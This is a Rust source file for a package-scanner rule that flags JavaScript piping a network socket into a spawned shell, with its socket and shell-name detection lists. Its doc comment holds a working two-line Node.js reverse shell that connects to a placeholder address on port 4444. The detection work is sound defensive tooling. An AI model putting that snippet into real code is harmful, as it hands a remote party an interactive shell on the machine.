//! JS-SOCKET-SHELL: a socket wired to a spawned shell (a reverse or bind shell).

use ossprey_model::{Category, Finding};

use super::common::{critical_unless_runtime, is_js_exec, js_sources};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds a JavaScript file that opens a TCP socket (`new net.Socket()`,
/// `net.connect`, `net.createConnection`, `net.createServer`, `tls.connect`), starts a
/// command interpreter (`spawn("/bin/sh")`, `spawn("cmd.exe")`, `bash`, `powershell`)
/// and pipes streams (`.pipe(…)`) — a shell whose input and output are the socket.
/// Critical when the file runs at install or import time, high otherwise.
///
/// ## Why is this bad?
/// That wiring gives whoever is on the other end of the socket an interactive shell on
/// the machine that installed the package. Terminal emulators spawn shells too, but
/// they attach them to a pseudo-terminal, not to a raw network socket.
///
/// ## Example
/// ```javascript
/// const net = require("net"), sh = require("child_process").spawn("/bin/sh");
/// const c = net.connect(4444, "192.0.2.1", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });
/// ```
#[derive(Debug)]
pub struct SocketShell;

const SOCKETS: &[&str] = &[
    "net.Socket",
    "net.connect",
    "net.createConnection",
    "net.createServer",
    "tls.connect",
];

fn is_shell_program(program: &str) -> bool {
    let base = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    matches!(
        base.to_ascii_lowercase().as_str(),
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "cmd" | "powershell" | "pwsh"
    )
}

impl Rule for SocketShell {
    fn id(&self) -> &'static str {
        "JS-SOCKET-SHELL"
    }
    fn category(&self) -> Category {
        Category::EXECUTION
    }
    fn summary(&self) -> &'static str {
        "pipes a network socket into a spawned shell"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            let Some(socket) = facts
                .calls
                .iter()
                .find(|c| SOCKETS.contains(&c.callee.as_str()))
            else {
                continue;
            };
            let Some(shell) = facts.calls.iter().find(|c| {
                is_js_exec(&c.callee)
                    && c.args
                        .first()
                        .and_then(|a| a.as_str())
                        .is_some_and(is_shell_program)
            }) else {
                continue;
            };
            if !facts.calls.iter().any(|c| c.callee.ends_with(".pipe")) {
                continue;
            }
            let severity = critical_unless_runtime(input, file);
            out.push(finding(
                self.id(),
                severity,
                self.category(),
                format!(
                    "`{}` starts a shell and `{}` (line {}) opens a socket; their streams are piped together",
                    shell.callee, socket.callee, socket.line
                ),
                Some(&file.path),
                Some(shell.line),
                Some(&shell.snippet),
            ));
        }
    }
}
